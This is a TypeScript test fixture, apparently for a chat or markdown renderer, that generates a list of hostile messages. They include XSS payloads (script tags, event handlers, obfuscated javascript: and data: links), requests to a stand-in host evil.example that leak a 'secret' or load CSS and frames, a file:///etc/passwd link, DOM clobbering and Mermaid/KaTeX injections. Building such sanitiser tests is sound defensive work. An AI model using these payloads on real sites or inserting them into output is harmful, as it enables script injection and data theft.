/** What a script of a message would do where it ran. */
const run = "window.planted=1;top.planted=1";
/** A host that nothing may ask. */
const host = "https://evil.example";
const fence = "```";

const html = [
  `<script>${run}</script>`,
  `<script src="${host}/x.js"></script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${host}/a.png">`,
  `<img/src="x"/onerror=${run}>`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><image href="${host}/a.png"></image></svg>`,
  `<svg><use href="${host}/a.svg#b"></use></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x></svg>`,
  `<iframe src="${host}"></iframe>`,
  `<iframe srcdoc="<script>parent.planted=1</script>"></iframe>`,
  `<object data="${host}/a.swf"></object>`,
  `<embed src="${host}/a.swf">`,
  `<link rel="stylesheet" href="${host}/a.css">`,
  `<style>@import url(${host}/a.css);</style>`,
  "<style>body{display:none}</style>",
  `<base href="${host}/">`,
  `<meta http-equiv="refresh" content="0;url=${host}">`,
  `<form action="${host}"><button autofocus>Send</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<video src="${host}/a.mp4" poster="${host}/a.png" onerror="${run}" autoplay></video>`,
  `<audio src="${host}/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${run}"><summary>a</summary></details>`,
  `<body onload="${run}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<a href="javascript:${run}">a</a>`,
  '<div id="__next" style="position:fixed;inset:0">over all</div>',
  '<form id="documentElement"><input name="cookie"></form>',
  `<span style="background:url(${host}/a.png)">a</span>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
];

const links = [
  `[a](javascript:${run})`,
  `[a](JaVaScRiPt:${run})`,
  `[a](java&#9;script:${run})`,
  `[a](java&NewLine;script:${run})`,
  `[a](&#106;avascript:${run})`,
  `[a](javascript&colon;${run})`,
  `[a](&#1;javascript:${run})`,
  `[a](vbscript:${run})`,
  `[a](data:text/html,<script>${run}</script>)`,
  "[a](data:text/html;base64,PHNjcmlwdD50b3AucGxhbnRlZD0xPC9zY3JpcHQ+)",
  "[a](file:///etc/passwd)",
  "[a](//evil.example)",
  "[a](/\\evil.example)",
  `[a](${host} "a\\" onmouseover=\\"${run}")`,
  `[a]\n\n[a]: javascript:${run}`,
  `<javascript:${run}>`,
  `![a](${host}/pixel.png?secret)`,
  "![a](//evil.example/a.png)",
  "![a](http://evil.example/a.png)",
  `![a](data:image/svg+xml,<svg onload="${run}"></svg>)`,
  `![a](javascript:${run})`,
  `![a][b]\n\n[b]: ${host}/a.png`,
  `[song](${host}/a.mp3)`,
  `![film](${host}/a.mp4)`,
  "[^__proto__] [^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b",
];

const blocks = [
  `$$\\href{javascript:${run}}{x}$$`,
  `$$\\includegraphics{${host}/a.png}$$`,
  `$$\\htmlStyle{background:url(${host}/a.png)}{x}\\htmlId{__next}{y}$$`,
  "$$\\rule{999999em}{999999em}$$",
  `${fence}mermaid\nflowchart TD\n  A-->B\n  click A "javascript:${run}"\n${fence}`,
  `${fence}mermaid\nflowchart TD\n  A["<img src='${host}/a.png' onerror='${run}'>"]\n${fence}`,
  `${fence}mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${host}/a.css)"}}%%\nflowchart TD\n  A-->B\n${fence}`,
  `${fence}mermaid\nflowchart TD\n  A@{ img: "${host}/a.png", label: "a" }\n${fence}`,
  `${fence}html\n<img src="${host}/a.png"><link rel="stylesheet" href="${host}/a.css"><p>a</p>\n${fence}`,
  `${fence}html\n<style>@import url(${host}/a.css);body{background:url(${host}/a.png)}</style>\n${fence}`,
  `${fence}html\n<meta http-equiv="refresh" content="0;url=${host}"><p>a</p>\n${fence}`,
  `${fence}html\n<iframe src="${host}"></iframe><object data="${host}"></object>\n${fence}`,
  `${fence}html\n<link rel="prefetch" href="${host}/a"><link rel="icon" href="${host}/a.ico"><video src="${host}/a.mp4"></video>\n${fence}`,
  `${fence}svg\n<svg xmlns="http://www.w3.org/2000/svg"><image href="${host}/a.png"/><a href="${host}"><text>a</text></a></svg>\n${fence}`,
  `${fence}"><img src=x onerror="${run}">\ncode\n${fence}`,
];

/** The same text where a reply may hold it: by itself, in a list, in a quote, and after words of a row that goes on. */
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- before\n\n${indented(text)}`,
  (text) => text.replace(/^/gm, "> "),
  (text) => `| a |\n| - |\n| ${text.replaceAll("\n", " ").replaceAll("|", "\\|")} |\n\n**before** ${text}`,
];

function indented(text: string): string {
  return text.replace(/^/gm, "  ");
}

/** Three hundred messages that try to run, to load, to cover or to rename something of the page. */
export const hostileMessages: readonly string[] = [...html, ...links, ...blocks].flatMap((text) =>
  places.map((place) => place(text)),
);
